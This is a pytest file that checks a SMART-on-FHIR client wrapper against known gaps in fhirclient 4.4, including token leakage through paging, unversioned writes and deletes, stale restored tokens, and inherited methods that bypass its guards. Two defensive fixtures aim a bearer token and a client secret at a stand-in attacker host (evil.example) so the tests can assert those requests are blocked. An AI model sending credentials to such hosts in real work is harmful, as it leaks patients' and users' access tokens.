"""What fhirclient 4.4 leaves open and our subclasses close, and what of it keeps working."""

from __future__ import annotations

import threading

import orjson
import pytest
import requests
import responses
from fhirclient.auth import FHIRAuth
from fhirclient.models.observation import Observation
from fhirclient.models.patient import Patient
from fhirclient.models.task import Task
from fhirclient.server import FHIRServer

from smart_launch.errors import ForeignLink, SessionEnded, UnknownState
from smart_launch.fhir_client import SmartClient, SmartServer
from smart_launch.transport import Http
from tests.smart_launch.conftest import CONFIGURATION, ISS, NOW, PUBLIC, TOKEN_URL, Clock, grant, token_answer

PATIENT = {"resourceType": "Patient", "id": "p1"}
TASK = {"resourceType": "Task", "status": "requested", "intent": "plan"}


@pytest.mark.requirement("client@15")
def test_fhirclients_own_paging_never_takes_the_token_to_another_host(
    ehr: responses.RequestsMock, client: SmartClient
) -> None:
    """fhirclient 4.4's perform_iter sends the bearer token to whatever host a `next` link names."""
    page = {
        "resourceType": "Bundle",
        "type": "searchset",
        "link": [{"relation": "next", "url": "https://evil.example/fhir/Observation?page=2"}],
        "entry": [],
    }
    ehr.get(f"{ISS}/Observation", json=page)
    with pytest.raises(ForeignLink):
        list(Observation.where({"patient": "p1"}).perform_resources_iter(client.server))
    assert {call.request.url for call in ehr.calls} == {f"{ISS}/Observation?patient=p1"}


def test_fhirclients_models_read_through_the_guards(ehr: responses.RequestsMock, client: SmartClient) -> None:
    ehr.get(f"{ISS}/Patient/p1", json=PATIENT)
    assert Patient.read("p1", client.server).id == "p1"
    assert client.patient.id == "p1"
    assert ehr.calls[0].request.headers["Authorization"] == "Bearer access-1"


def test_fhirclients_models_update_only_the_version_that_was_read(
    ehr: responses.RequestsMock, client: SmartClient
) -> None:
    ehr.put(f"{ISS}/Task/t1", json={**TASK, "id": "t1"})
    task = Task({**TASK, "id": "t1", "meta": {"versionId": "4"}})
    task.update(client.server)
    assert ehr.calls[0].request.headers["If-Match"] == 'W/"4"'
    with pytest.raises(ValueError, match="version"):
        Task({**TASK, "id": "t1"}).update(client.server)
    assert len(ehr.calls) == 1


def test_fhirclients_models_create_through_the_guards(
    ehr: responses.RequestsMock, client: SmartClient
) -> None:
    ehr.post(f"{ISS}/Task", status=201, json={**TASK, "id": "t1"})
    assert Task(dict(TASK)).create(client.server)["id"] == "t1"


def test_a_request_that_asks_for_no_signature_gets_none(
    ehr: responses.RequestsMock, client: SmartClient
) -> None:
    ehr.get(f"{ISS}/metadata", json={"resourceType": "CapabilityStatement", "fhirVersion": "4.0.1"})
    client.server.request_json("metadata", nosign=True)
    assert "Authorization" not in ehr.calls[0].request.headers


def test_the_client_holds_the_launch_and_its_scopes(client: SmartClient) -> None:
    assert client.patient_id == "p1"
    assert client.launch_context["intent"] == "plan"
    assert client.desired_scope == grant().scopes.text
    assert client.ready


def test_a_refresh_by_fhirclients_own_name_keeps_the_launch_context(
    ehr: responses.RequestsMock, client: SmartClient
) -> None:
    ehr.post(TOKEN_URL, json=token_answer(patient=None))
    assert client.reauthorize() is True
    assert client.grant.access_token == "access-2"
    assert client.launch_context["encounter"] == "e1"
    assert client.grant.context.encounter == "e1"


def test_what_fhirclient_saves_brings_the_expiry_back(http: Http, client: SmartClient) -> None:
    """fhirclient leaves the expiry out of its state: a token restored after a day reports `ready`."""
    state = orjson.loads(orjson.dumps(client.state))
    assert state["app_secret"] is None
    assert state["server"]["auth"]["grant"]["expires_at"] == NOW + 3600
    late = Clock(NOW + 7200)
    restored = SmartClient(PUBLIC, CONFIGURATION, grant(refresh_token=None), http=http, now=late)
    restored.from_state({"server": {"auth": {"grant": grant(refresh_token=None).to_json()}}})
    assert restored.grant == grant(refresh_token=None)
    assert isinstance(restored.server, SmartServer)
    assert restored.ready is False


def test_a_plain_fhirclient_server_cannot_take_our_token(client: SmartClient) -> None:
    assert "smart" not in FHIRAuth.auth_classes
    with pytest.raises(Exception, match="No class registered"):
        FHIRServer(None, state=client.server.state)
    assert client.server.auth.can_sign_headers() is False


def test_the_ways_of_fhirclient_that_know_no_state_are_closed(client: SmartClient) -> None:
    assert client.authorize_url is None
    with pytest.raises(UnknownState):
        client.handle_callback("https://app.example/callback?code=C&state=S")
    with pytest.raises(SessionEnded):
        client.authorize()


@pytest.mark.requirement("client@42")
def test_a_model_deletes_nothing_since_it_names_no_version(
    ehr: responses.RequestsMock, client: SmartClient
) -> None:
    with pytest.raises(ValueError, match="version"):
        Patient({"id": "p1"}).delete(client.server)
    assert len(ehr.calls) == 0


def test_no_inherited_method_can_send_past_the_guards(
    client: SmartClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    used = threading.Event()
    monkeypatch.setattr(requests.Session, "send", lambda *args, **kwargs: used.set())
    assert client.server.session is None
    with pytest.raises(AttributeError):
        client.server.post_as_form("https://evil.example/token", {"client_secret": "x"})
    touching = {
        name
        for name, member in vars(FHIRServer).items()
        if callable(member) and "session" in getattr(getattr(member, "__code__", None), "co_names", ())
    }
    assert touching - set(vars(SmartServer)) == {"post_as_form"}
    assert not used.is_set()


def test_the_capability_of_fhirclients_own_name_is_read_once_and_decides_nothing(
    ehr: responses.RequestsMock, client: SmartClient
) -> None:
    ehr.get(f"{ISS}/metadata", json={"resourceType": "CapabilityStatement", "fhirVersion": "4.0.1"})
    auth = client.server.auth
    assert client.server.capabilityStatement["fhirVersion"] == "4.0.1"
    assert client.server.capabilityStatement is not None
    assert client.server.auth is auth
    assert len(ehr.calls) == 1
    assert client.prepare()
